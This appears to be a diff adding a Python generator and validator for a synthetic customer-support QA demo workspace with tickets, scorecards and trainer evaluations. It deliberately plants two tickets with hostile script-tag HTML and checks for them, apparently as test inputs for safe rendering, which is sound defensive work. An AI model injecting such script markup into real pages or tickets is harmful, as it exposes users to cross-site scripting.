+def overall_comment(rng, ticket, card, answers):
+    res = score_evaluation(card, answers)
+    eng = ticket["_plan"]["eng"]
+    fem = eng in FEMALE_ENGINEERS
+    crit_ids = {c["id"] for s in card["sections"] for c in s["criteria"] if c.get("critical")}
+    if res["critical_failed"]:
+        issue = next(a["comment"] for cid, a in answers.items() if cid in crit_ids and a["value"] in card.get("critical_fails_on", ["no"]))
+        return CRITICAL_OVERALL.format(issue=low(issue))
+    if rng.random() > 0.6:
+        return None
+    bad = [a["comment"] for a in answers.values() if a["value"] in ("no", "partly") and a.get("comment")]
+    if bad:
+        issue = bad[0] if len(bad) == 1 or rng.random() < 0.6 else bad[0] + "; " + low(bad[1])
+        return rng.choice(NEGATIVE_OVERALL).format(issue=low(issue), issue_cap=cap(issue))
+    good = ticket["_plan"]["sc"]["hints"].get("good", "ответ полный и по делу")
+    if fem:
+        good = feminize(good)
+    return rng.choice(POSITIVE_OVERALL).format(good=low(good), good_cap=cap(good))
+
+
+def make_evaluations(eval_seed, tickets_by_idx, chosen, people):
+    trainers = [login_of(p["email"]) for p in TRAINERS]
+    admin = login_of(ADMIN["email"])
+    evals = []
+    for login, plans in chosen.items():
+        for plan in plans:
+            t = tickets_by_idx[plan["idx"]]
+            rng = Random(eval_seed + plan["id"])
+            team = plan["team"]
+            card = CARD_BY_ID[team]
+            opts = TRAINER_FOR_TEAM[team]
+            r = rng.random()
+            trainer = admin if r < 0.1 else (opts[0] if r < 0.78 or len(opts) == 1 else opts[1])
+            answers = eval_answers(rng, t)
+            ev = {"ticket": str(plan["id"]), "source": "demo", "engineer": f"{login}@{EMAIL_DOMAIN}",
+                  "trainer": f"{trainer}@{EMAIL_DOMAIN}", "scorecard": card["id"],
+                  "submitted_at": iso(eval_time(rng, t["solved_at"])), "kind": "normal"}
+            oc = overall_comment(rng, t, card, answers)
+            if oc:
+                ev["comment"] = oc
+            ev["answers"] = answers
+            evals.append(ev)
+            if plan.get("calibrate"):
+                evals.append(make_calibration(rng, t, ev, trainers + [admin]))
+    evals.sort(key=lambda e: (e["submitted_at"], e["ticket"]))
+    return evals
+
+
+def eval_time(rng, solved_at, after=None):
+    lo = (after or solved_at) + dt.timedelta(hours=2)
+    hi = min((after or solved_at) + dt.timedelta(days=5), EVAL_LIMIT)
+    if hi <= lo:
+        hi = lo + dt.timedelta(minutes=30)
+    t = lo + (hi - lo) * rng.random()
+    if not 6 <= t.hour <= 15:          # trainers work 09:00-18:00 Moscow time
+        t2 = t.replace(hour=rng.randint(6, 15))
+        if lo <= t2 <= hi:
+            t = t2
+    return t.replace(microsecond=0)
+
+
+def make_calibration(rng, ticket, original, trainer_pool):
+    plan = ticket["_plan"]
+    team = plan["team"]
+    orig_trainer = login_of(original["trainer"])
+    cands = [t for t in trainer_pool if t != orig_trainer]
+    trainer = "e.kuznetsova" if "e.kuznetsova" in cands else cands[0]
+    answers = json.loads(json.dumps(original["answers"]))
+    critical = "ident_partial" in plan["flags"]
+    if critical:
+        answers["identification"] = {"value": "no", "comment": "Контрольное слово не спрошено — идентификация не пройдена, а клиенту уже сообщены данные аккаунта. Это «Нет», а не «Частично»."}
+    else:
+        for cid, comment in CALIBRATION_CHANGE[team]:
+            if answers[cid]["value"] == "yes":
+                answers[cid] = {"value": "partly", "comment": comment}
+                break
+    if critical:
+        change = "identification"
+    sub = eval_time(rng, ticket["solved_at"], after=parse_iso(original["submitted_at"]))
+    ev = {"ticket": original["ticket"], "source": "demo", "engineer": original["engineer"],
+          "trainer": f"{trainer}@{EMAIL_DOMAIN}", "scorecard": original["scorecard"],
+          "submitted_at": iso(sub), "kind": "calibration",
+          "comment": CALIBRATION_COMMENT[critical], "answers": answers}
+    return ev
+
+# ---------------------------------------------------------------------------------------
+# Assembly
+# ---------------------------------------------------------------------------------------
+
+def people_doc():
+    people = [p for p, _ in ENGINEERS] + TRAINERS + [ADMIN, ARBITER] + TEAM_LEADS
+    return {"format": "qadesk.people/1", "teams": TEAMS, "people": people}
+
+
+def generate():
+    # one seed per phase and per ticket, all drawn from RNG: editing one conversation's
+    # text does not reshuffle the rest of the workspace
+    seeds = {name: RNG.getrandbits(48) for name in
+             ("customers", "plan", "flags", "unsolved", "choose", "render", "eval")}
+    rng = Random(seeds["plan"])
+    customers = make_customers(Random(seeds["customers"]))
+    people = {login_of(p["email"]): p for p in people_doc()["people"]}
+    plans = plan_tickets(rng, customers, seeds["flags"])
+    plans.sort(key=lambda p: p["created"])
+    for i, p in enumerate(plans):
+        p["idx"], p["id"], p["n"] = i, 40001 + i, rng.randint(10000, 99999)
+    rng = Random(seeds["unsolved"])
+    choose_unsolved(rng, plans)
+    for key, kind in (("fl-malware", "ru"), ("fl-spam-en", "en")):
+        cands = [p for p in plans if p["sc"]["key"] == key and p["solved"]] or \
+                [p for p in plans if p["team"] == "first-line" and p["lang"] == kind and p["solved"]]
+        cands[len(cands) // 2]["hostile"] = kind
+    chosen = choose_evaluated(Random(seeds["choose"]), plans)
+
+    user_ids = {"agent": {}, "cust": {}}
+    users = []
+    for i, (p, _) in enumerate(ENGINEERS):
+        user_ids["agent"][login_of(p["email"])] = 1001 + i
+        users.append({"id": 1001 + i, "name": p["name"], "email": p["email"], "role": "agent"})
+    users.append({"id": 1001 + len(ENGINEERS), "name": ADMIN["name"], "email": ADMIN["email"], "role": "admin"})
+    for i, c in enumerate(customers):
+        user_ids["cust"][i] = 2001 + i
+        users.append({"id": 2001 + i, "name": c["name"], "email": c["email"], "role": "end-user"})
+
+    ids = Ids()
+    tickets = [render_ticket(Random(seeds["render"] + p["id"]), p, customers[p["cust"]], people, user_ids, ids)
+               for p in plans]
+    by_idx = {t["_plan"]["idx"]: t for t in tickets}
+    evaluations = make_evaluations(seeds["eval"], by_idx, chosen, people)
+
+    metric_sets = []
+    for t in tickets:
+        if t["solved_at"] is None:
+            continue
+        cs = t["zt"]["comments"]
+        created = parse_iso(t["zt"]["created_at"])
+        first_pub = next(c for c in cs if c["public"] and c["_role"] != "c")
+        reply = round((parse_iso(first_pub["created_at"]) - created).total_seconds() / 60)
+        full = round((t["solved_at"] - created).total_seconds() / 60)
+        metric_sets.append({
+            "id": 5000000 + t["zt"]["id"] - 40000, "ticket_id": t["zt"]["id"],
+            "created_at": t["zt"]["created_at"], "updated_at": t["zt"]["updated_at"],
+            "solved_at": iso(t["solved_at"]),
+            "replies": sum(1 for c in cs if c["public"] and c["_role"] != "c"),
+            "reply_time_in_minutes": {"calendar": reply, "business": reply},
+            "full_resolution_time_in_minutes": {"calendar": full, "business": full},
+        })
+    zendesk = {
+        "users": users,
+        "groups": [{"id": GROUP_IDS[t["id"]], "name": t["id"]} for t in TEAMS],
+        "metric_sets": metric_sets,
+        "tickets": [strip_private(t["zt"]) for t in tickets],
+    }
+    return {"people": people_doc(), "zendesk": zendesk,
+            "evaluations": {"format": "qadesk.evaluations/1", "evaluations": evaluations},
+            "_tickets": tickets}
+
+
+def strip_private(obj):
+    if isinstance(obj, dict):
+        return {k: strip_private(v) for k, v in obj.items() if not k.startswith("_")}
+    if isinstance(obj, list):
+        return [strip_private(v) for v in obj]
+    return obj
+
+
+def dump(path, data):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w", encoding="utf-8", newline="\n") as f:
+        json.dump(data, f, ensure_ascii=False, indent=1)
+        f.write("\n")
+
+
+def write_all(out, data):
+    for card in SCORECARDS:
+        dump(os.path.join(out, "scorecards", f"{card['id']}.json"), card)
+    dump(os.path.join(out, "people.json"), data["people"])
+    dump(os.path.join(out, "tickets.zendesk.json"), data["zendesk"])
+    dump(os.path.join(out, "evaluations.json"), data["evaluations"])
+
+
+# ---------------------------------------------------------------------------------------
+# Validation (reads the files back from disk)
+# ---------------------------------------------------------------------------------------
+
+CARD_FIELDS = {"format", "id", "title", "partial_credit", "comment_required_for", "critical_fails_on",
+               "applies_to", "sections"}
+SECTION_FIELDS = {"id", "title", "weight", "criteria"}
+CRITERION_FIELDS = {"id", "text", "weight", "critical", "partial_credit", "na_allowed",
+                    "comment_required_for", "help"}
+APPLIES_FIELDS = {"teams", "tags", "channels"}
+
+
+def is_num(x):
+    return isinstance(x, (int, float)) and not isinstance(x, bool) and math.isfinite(x)
+
+
+def validate_card(card, errors, where):
+    def err(path, msg):
+        errors.append(f"{where}: {path}: {msg}")
+
+    if not isinstance(card, dict):
+        err("$", "must be an object")
+        return
+    for k in card:
+        if k not in CARD_FIELDS:
+            err(k, "unknown field")
+    if card.get("format") != "qadesk.scorecard/1":
+        err("format", "must be \"qadesk.scorecard/1\"")
+    if not isinstance(card.get("id"), str) or not ID_RE.match(card.get("id", "")):
+        err("id", "must match [a-z0-9][a-z0-9._-]*")
+    if not isinstance(card.get("title"), str) or not card["title"].strip():
+        err("title", "must be a non-empty string")
+
+    def check_common(obj, path):
+        if "partial_credit" in obj and not (is_num(obj["partial_credit"]) and 0 <= obj["partial_credit"] <= 1):
+            err(f"{path}partial_credit", "must be a number in [0, 1]")
+        if "comment_required_for" in obj:
+            v = obj["comment_required_for"]
+            if not isinstance(v, list) or any(x not in VALUES for x in v) or len(set(v)) != len(v):
+                err(f"{path}comment_required_for", "must be a list of distinct yes/partly/no/na")
+        if "weight" in obj and not (is_num(obj["weight"]) and obj["weight"] > 0):
+            err(f"{path}weight", "must be > 0")
+
+    check_common(card, "")
+    if "critical_fails_on" in card:
+        v = card["critical_fails_on"]
+        if not isinstance(v, list) or any(x not in VALUES for x in v):
+            err("critical_fails_on", "must be a list of yes/partly/no/na")
+    if "applies_to" in card:
+        at = card["applies_to"]
+        if not isinstance(at, dict):
+            err("applies_to", "must be an object")
+        else:
+            for k, v in at.items():
+                if k not in APPLIES_FIELDS:
+                    err(f"applies_to.{k}", "unknown field")
+                elif not isinstance(v, list) or not all(isinstance(x, str) and x for x in v):
+                    err(f"applies_to.{k}", "must be a list of strings")
+    sections = card.get("sections")
+    if not isinstance(sections, list) or not sections:
+        err("sections", "a card needs at least one section")
+        return
+    sec_ids = set()
+    for i, sec in enumerate(sections):
+        sp = f"sections[{i}]."
+        for k in sec:
+            if k not in SECTION_FIELDS:
+                err(f"{sp}{k}", "unknown field")
+        sid = sec.get("id")
+        if not isinstance(sid, str) or not ID_RE.match(sid):
+            err(f"{sp}id", "must match [a-z0-9][a-z0-9._-]*")
+        elif sid in sec_ids:
+            err(f"{sp}id", "duplicate section id")
+        sec_ids.add(sid)
+        if not isinstance(sec.get("title"), str) or not sec["title"].strip():
+            err(f"{sp}title", "must be a non-empty string")
+        check_common(sec, sp)
+        crits = sec.get("criteria")
+        if not isinstance(crits, list) or not crits:
+            err(f"{sp}criteria", "a section needs at least one criterion")
+            continue
+        for j, c in enumerate(crits):
+            cp = f"{sp}criteria[{j}]."
+            for k in c:
+                if k not in CRITERION_FIELDS:
+                    err(f"{cp}{k}", "unknown field")
+            if not isinstance(c.get("id"), str) or not ID_RE.match(c.get("id", "")):
+                err(f"{cp}id", "must match [a-z0-9][a-z0-9._-]*")
+            if not isinstance(c.get("text"), str) or not c["text"].strip():
+                err(f"{cp}text", "must be a non-empty string")
+            if "help" in c and (not isinstance(c["help"], str) or not c["help"].strip()):
+                err(f"{cp}help", "must be a non-empty string")
+            for b in ("critical", "na_allowed"):
+                if b in c and not isinstance(c[b], bool):
+                    err(f"{cp}{b}", "must be true or false")
+            check_common(c, cp)
+    # criterion ids are unique within the card (answers are keyed by them)
+    all_ids = [c.get("id") for s in sections for c in (s.get("criteria") or [])]
+    dups = {x for x in all_ids if all_ids.count(x) > 1}
+    if dups:
+        err("sections", f"duplicate criterion ids: {sorted(dups)}")
+
+
+def card_applies(card, ticket, group_name):
+    at = card.get("applies_to")
+    if not at:
+        return True
+    if "teams" in at and group_name not in at["teams"]:
+        return False
+    if "channels" in at and ticket["via"]["channel"] not in at["channels"]:
+        return False
+    if "tags" in at and not set(at["tags"]) & set(ticket["tags"]):
+        return False
+    return True
+
+
+def validate(out):
+    errors = []
+    load = lambda name: json.load(open(os.path.join(out, name), encoding="utf-8"))
+    cards = {}
+    for card in SCORECARDS:
+        c = load(os.path.join("scorecards", f"{card['id']}.json"))
+        validate_card(c, errors, f"scorecards/{card['id']}.json")
+        cards[c["id"]] = c
+        n = sum(len(s["criteria"]) for s in c["sections"])
+        if not 6 <= n <= 10 or not 2 <= len(c["sections"]) <= 3:
+            errors.append(f"scorecards/{c['id']}.json: {len(c['sections'])} sections / {n} criteria")
+        if not any(cr.get("critical") for s in c["sections"] for cr in s["criteria"]):
+            errors.append(f"scorecards/{c['id']}.json: no critical criterion")
+    people = load("people.json")
+    zd = load("tickets.zendesk.json")
+    evs = load("evaluations.json")
+
+    # people
+    if people.get("format") != "qadesk.people/1":
+        errors.append("people.json: bad format")
+    team_ids = {t["id"] for t in people["teams"]}
+    if team_ids != set(cards):
+        errors.append("people.json: team ids differ from card ids")
+    by_email = {}
+    for p in people["people"]:
+        if p["email"] in by_email:
+            errors.append(f"people.json: duplicate {p['email']}")
+        by_email[p["email"]] = p
+        if not p["email"].endswith("@" + EMAIL_DOMAIN):
+            errors.append(f"people.json: {p['email']} outside {EMAIL_DOMAIN}")
+        if set(p["roles"]) - {"admin", "trainer", "arbiter", "engineer", "team_lead"} or not p["roles"]:
+            errors.append(f"people.json: {p['email']} bad roles {p['roles']}")
+        if set(p["teams"]) - team_ids:
+            errors.append(f"people.json: {p['email']} unknown team")
+        if p["language"] not in ("ru", "en"):
+            errors.append(f"people.json: {p['email']} bad language")
+    engineers = {e: p for e, p in by_email.items() if "engineer" in p["roles"]}
+    trainers = {e for e, p in by_email.items() if "trainer" in p["roles"]}
+
+    # zendesk
+    users = {u["id"]: u for u in zd["users"]}
+    groups = {g["id"]: g["name"] for g in zd["groups"]}
+    if set(groups.values()) != team_ids:
+        errors.append("tickets: group names differ from team ids")
+    for u in zd["users"]:
+        if u["role"] == "agent" and u["email"] not in engineers:
+            errors.append(f"tickets: agent {u['email']} is not an engineer in people.json")
+    agent_emails = {u["email"] for u in zd["users"] if u["role"] == "agent"}
+    if agent_emails != set(engineers):
+        errors.append("tickets: agents and engineers differ")
+    metrics = {m["ticket_id"]: m for m in zd["metric_sets"]}
+    tickets = {}
+    n_comments = n_notes = n_tickets_notes = n_en = 0
+    for t in zd["tickets"]:
+        tid = t["id"]
+        tickets[str(tid)] = t
+        where = f"ticket {tid}"
+        group = groups.get(t["group_id"])
+        assignee = users.get(t["assignee_id"])
+        if not group or not assignee or assignee["role"] != "agent":
+            errors.append(f"{where}: bad group/assignee")
+            continue
+        if group not in engineers[assignee["email"]]["teams"]:
+            errors.append(f"{where}: assignee {assignee['email']} not in team {group}")
+        if users.get(t["requester_id"], {}).get("role") != "end-user":
+            errors.append(f"{where}: requester is not an end-user")
+        created = parse_iso(t["created_at"])
+        if not WINDOW_START <= created <= WINDOW_END:
+            errors.append(f"{where}: created_at outside the window")
+        cs = t["comments"]
+        if not 2 <= len(cs) <= 15:
+            errors.append(f"{where}: {len(cs)} comments")
+        if cs[0]["author_id"] != t["requester_id"] or not cs[0]["public"]:
+            errors.append(f"{where}: first comment is not the requester's")
+        times = [parse_iso(c["created_at"]) for c in cs]
+        if times != sorted(times) or times[0] < created:
+            errors.append(f"{where}: comments out of order")
+        if parse_iso(t["updated_at"]) < times[-1]:
+            errors.append(f"{where}: updated_at before the last comment")
+        if max(times + [parse_iso(t["updated_at"])]) > NOW:
+            errors.append(f"{where}: times after the export")
+        for c in cs:
+            if c["author_id"] not in users:
+                errors.append(f"{where}: unknown author {c['author_id']}")
+            if c["body"] != c["plain_body"] or "<" in c["plain_body"] and re.search(r"<(script|img|a |p>|div)", c["plain_body"]):
+                errors.append(f"{where}: comment {c['id']} plain text carries markup")
+            if not c["html_body"].startswith("<"):
+                errors.append(f"{where}: comment {c['id']} html_body is not HTML")
+            if not c["public"] and users[c["author_id"]]["role"] == "end-user":
+                errors.append(f"{where}: internal note by a customer")
+        n_comments += len(cs)
+        notes = sum(1 for c in cs if not c["public"])
+        n_notes += notes
+        n_tickets_notes += 1 if notes else 0
+        n_en += 1 if "lang_en" in t["tags"] else 0
+        chan = t["via"]["channel"]
+        if (group == "calls") != (chan == "voice") or (group == "chats") != (chan == "chat"):
+            errors.append(f"{where}: channel {chan} does not fit team {group}")
+        if t["status"] in ("solved", "closed"):
+            m = metrics.get(tid)
+            if not m:
+                errors.append(f"{where}: solved without metric_set")
+            elif parse_iso(m["solved_at"]) <= times[-1] or parse_iso(m["solved_at"]) > parse_iso(t["updated_at"]):
+                errors.append(f"{where}: solved_at not after the last comment / after updated_at")
+        elif tid in metrics:
+            errors.append(f"{where}: unsolved ticket has a metric_set")
+        sr = t.get("satisfaction_rating")
+        if sr and sr["score"] not in ("good", "bad", "offered", "unoffered"):
+            errors.append(f"{where}: bad satisfaction score")
+    hostile = [t["id"] for t in zd["tickets"] if any("<script>" in c["html_body"] for c in t["comments"])]
+    if len(hostile) != 2:
+        errors.append(f"tickets: expected 2 tickets with hostile HTML, found {hostile}")
+
+    # evaluations
+    if evs.get("format") != "qadesk.evaluations/1":
+        errors.append("evaluations.json: bad format")
+    normal_per_ticket, per_engineer = {}, {}
+    scores = {}
+    for i, e in enumerate(evs["evaluations"]):
+        where = f"evaluations[{i}] (ticket {e.get('ticket')})"
+        extra = set(e) - {"ticket", "source", "engineer", "trainer", "scorecard", "submitted_at", "kind",
+                          "comment", "answers"}
+        if extra:
+            errors.append(f"{where}: unknown fields {sorted(extra)}")
+        t = tickets.get(e["ticket"])
+        if not t:
+            errors.append(f"{where}: unknown ticket")
+            continue
+        if t["status"] not in ("solved", "closed"):
+            errors.append(f"{where}: ticket is not solved")
+            continue
+        assignee = users[t["assignee_id"]]["email"]
+        if e["engineer"] != assignee:
+            errors.append(f"{where}: engineer {e['engineer']} is not the assignee {assignee}")
+        if e["engineer"] not in engineers:
+            errors.append(f"{where}: engineer not in people.json")
+        if e["trainer"] not in trainers or e["trainer"] == e["engineer"]:
+            errors.append(f"{where}: trainer {e['trainer']} is not a trainer")
+        card = cards.get(e["scorecard"])
+        if not card:
+            errors.append(f"{where}: unknown scorecard")
+            continue
+        if not card_applies(card, t, groups[t["group_id"]]):
+            errors.append(f"{where}: scorecard {card['id']} does not apply to the ticket")
+        if parse_iso(e["submitted_at"]) <= parse_iso(metrics[t["id"]]["solved_at"]):
+            errors.append(f"{where}: submitted before the ticket was solved")
+        if parse_iso(e["submitted_at"]) > parse_iso(metrics[t["id"]]["solved_at"]) + dt.timedelta(days=5, hours=1) \
+                and e["kind"] == "normal":
+            errors.append(f"{where}: submitted more than 5 days after solved_at")
+        if e["kind"] not in ("normal", "calibration"):
+            errors.append(f"{where}: bad kind")
+        if "comment" in e and not e["comment"].strip():
+            errors.append(f"{where}: blank overall comment")
+        crits = {c["id"]: c for s in card["sections"] for c in s["criteria"]}
+        ans = e["answers"]
+        for cid in set(ans) - set(crits):
+            errors.append(f"{where}: answer for unknown criterion {cid}")
+        for cid, c in crits.items():
+            a = ans.get(cid)
+            if a is None:
+                errors.append(f"{where}: criterion {cid} not answered")
+                continue
+            if set(a) - {"value", "comment"}:
+                errors.append(f"{where}: {cid}: unknown answer fields")
+            if a.get("value") not in VALUES:
+                errors.append(f"{where}: {cid}: bad value {a.get('value')!r}")
+            if a.get("value") == "na" and not c.get("na_allowed", True):
+                errors.append(f"{where}: {cid}: N/A not allowed")
+            if "comment" in a and not str(a["comment"]).strip():
+                errors.append(f"{where}: {cid}: blank comment")
+        res = score_evaluation(card, ans)
+        if not res["complete"]:
+            errors.append(f"{where}: incomplete, missing comments {res['missing_comments']}")
+        if e["kind"] == "normal":
+            normal_per_ticket[e["ticket"]] = normal_per_ticket.get(e["ticket"], 0) + 1
+        per_engineer[e["engineer"]] = per_engineer.get(e["engineer"], 0) + 1
+        scores.setdefault(e["engineer"], []).append((e["kind"], res))
+    for tid, n in normal_per_ticket.items():
+        if n > 1:
+            errors.append(f"ticket {tid}: {n} normal evaluations")
+    for e in evs["evaluations"]:
+        if e["kind"] == "calibration":
+            normals = [x for x in evs["evaluations"] if x["ticket"] == e["ticket"] and x["kind"] == "normal"]
+            if not normals or any(x["trainer"] == e["trainer"] for x in normals):
+                errors.append(f"calibration on ticket {e['ticket']}: needs a normal evaluation by another trainer")
+            elif parse_iso(e["submitted_at"]) <= parse_iso(normals[0]["submitted_at"]):
+                errors.append(f"calibration on ticket {e['ticket']}: submitted before the normal evaluation")
+    for eng in engineers:
+        n = per_engineer.get(eng, 0)
+        if not 5 <= n <= 9:
+            errors.append(f"{eng}: {n} evaluations (want 5-9)")
+    size = os.path.getsize(os.path.join(out, "tickets.zendesk.json"))
+    if size > MAX_TICKETS_BYTES:
+        errors.append(f"tickets.zendesk.json is {size} bytes (> {MAX_TICKETS_BYTES})")
+    stats = {"tickets": len(zd["tickets"]), "comments": n_comments, "notes": n_notes,
+             "tickets_with_notes": n_tickets_notes, "en": n_en, "size": size,
+             "solved": sum(1 for t in zd["tickets"] if t["status"] in ("solved", "closed")),
+             "rated": sum(1 for t in zd["tickets"] if "satisfaction_rating" in t),
+             "escalated": sum(1 for t in zd["tickets"] if "escalated" in t["tags"]),
+             "customers": sum(1 for u in zd["users"] if u["role"] == "end-user"),
+             "evaluations": len(evs["evaluations"]),
+             "calibrations": sum(1 for e in evs["evaluations"] if e["kind"] == "calibration"),
+             "critical": sum(1 for e in evs["evaluations"]
+                             if score_evaluation(cards[e["scorecard"]], e["answers"])["critical_failed"]),
+             "hostile": hostile}
+    return errors, stats, scores, engineers
+
+
+def print_summary(stats, scores, engineers):
+    print("Demo workspace:")
+    print(f"  tickets            {stats['tickets']} ({stats['solved']} solved/closed, {stats['en']} in English, "
+          f"{stats['escalated']} escalated L1→L2, {stats['rated']} with satisfaction_rating)")
+    print(f"  comments           {stats['comments']} ({stats['notes']} internal notes in "
+          f"{stats['tickets_with_notes']} tickets)")
+    print(f"  customers          {stats['customers']}")
+    print(f"  hostile HTML       tickets {stats['hostile']}")
+    print(f"  evaluations        {stats['evaluations']} ({stats['calibrations']} calibration, "
+          f"{stats['critical']} with a critical fail)")
+    print(f"  tickets.zendesk.json {stats['size']} bytes")
+    print("Per-engineer KPI (mean final score of normal, scored evaluations):")
+    for email, p in engineers.items():
+        rs = [r for k, r in scores.get(email, []) if k == "normal" and r["scored"]]
+        cal = sum(1 for k, _ in scores.get(email, []) if k == "calibration")
+        mean = sum(r["score"] for r in rs) / len(rs) if rs else float("nan")
+        crit = sum(1 for r in rs if r["critical_failed"])
+        extra = (f", {crit} critical" if crit else "") + (f", +{cal} calibration" if cal else "")
+        print(f"  {p['name']:<20} {p['teams'][0]:<14} {mean:6.1f}  ({len(rs)} evals{extra})")
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("--out", default=DEFAULT_OUT)
+    ap.add_argument("--vectors", help="also check the scoring code against scoring-vectors.json")
+    ap.add_argument("--check-only", action="store_true", help="validate existing files, do not generate")
+    args = ap.parse_args()
+    ok = True
+    if args.vectors:
+        ok = check_vectors(args.vectors) and ok
+    if not args.check_only:
+        write_all(args.out, generate())
+    errors, stats, scores, engineers = validate(args.out)
+    print_summary(stats, scores, engineers)
+    for e in errors:
+        print("ERROR:", e, file=sys.stderr)
+    if errors or not ok:
+        print(f"{len(errors)} problem(s)", file=sys.stderr)
+        return 1
+    print("validation: OK")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
